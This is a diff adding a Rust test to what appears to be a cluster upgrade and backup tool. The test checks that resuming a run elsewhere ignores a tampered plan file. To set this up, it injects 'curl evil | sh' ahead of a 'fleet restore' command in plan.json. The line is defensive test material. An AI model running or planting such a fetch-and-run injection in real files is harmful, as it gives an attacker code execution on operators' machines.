@@ -257,6 +257,30 @@ fn a_cluster_of_before_0_6_is_backed_up_and_a_person_is_asked_for_the_rest() {
     assert_eq!(host.commands().len(), asked);
 }
 
+#[test]
+fn another_machine_asks_for_the_rest_in_its_own_words_and_has_a_backup_of_its_own() {
+    let bench = Bench::new(vec![HostSpec::new("old").version(Version::V0_3).apps(["nextcloud"])]);
+    bench.fleet(&rebuilding("2")).ends(7);
+    let run = bench.run().file_name().unwrap().to_str().unwrap().to_owned();
+    // Whoever has the host would have a person type this.
+    let plan = bench.host("old").folder().join("spool/runs").join(&run).join("to-0.6/plan.json");
+    let text = fs::read_to_string(&plan).unwrap();
+    let changed = text.replace("fleet restore", "curl evil | sh; fleet restore");
+    assert_ne!(text, changed);
+    fs::write(&plan, changed).unwrap();
+
+    fs::remove_dir_all(bench.path("backups")).unwrap();
+    let places = ["runs", "backups"].map(|name| bench.path("elsewhere").join(name));
+    let [runs, backups] = places.each_ref().map(|path| path.to_str().unwrap());
+    let there = ["--runs", runs, "--backups", backups, "resume", "last", "--from-hosts", "--on", "old"];
+    let ran = bench.fleet(&there).ends(7);
+    assert!(ran.out.contains("to-0.6/new-cluster"), "{}", ran.out);
+    let here = fs::read_to_string(places[0].join(&run).join("old/to-0.6/plan.json")).unwrap();
+    assert!(here.contains("fleet restore") && !here.contains("evil"), "{here}");
+    let backup = fleet::backup::of_cluster(&places[1], "old").unwrap().pop().unwrap();
+    assert!(backup.manifest().is_ok(), "a whole one");
+}
+
 /// The words for a cluster of before 0.3.
 fn emptying<'a>(verb: &'a str, more: &[&'a str]) -> Vec<&'a str> {
     let acks = ["--ack", "version", "--ack", "web", "--to", "0.3"];
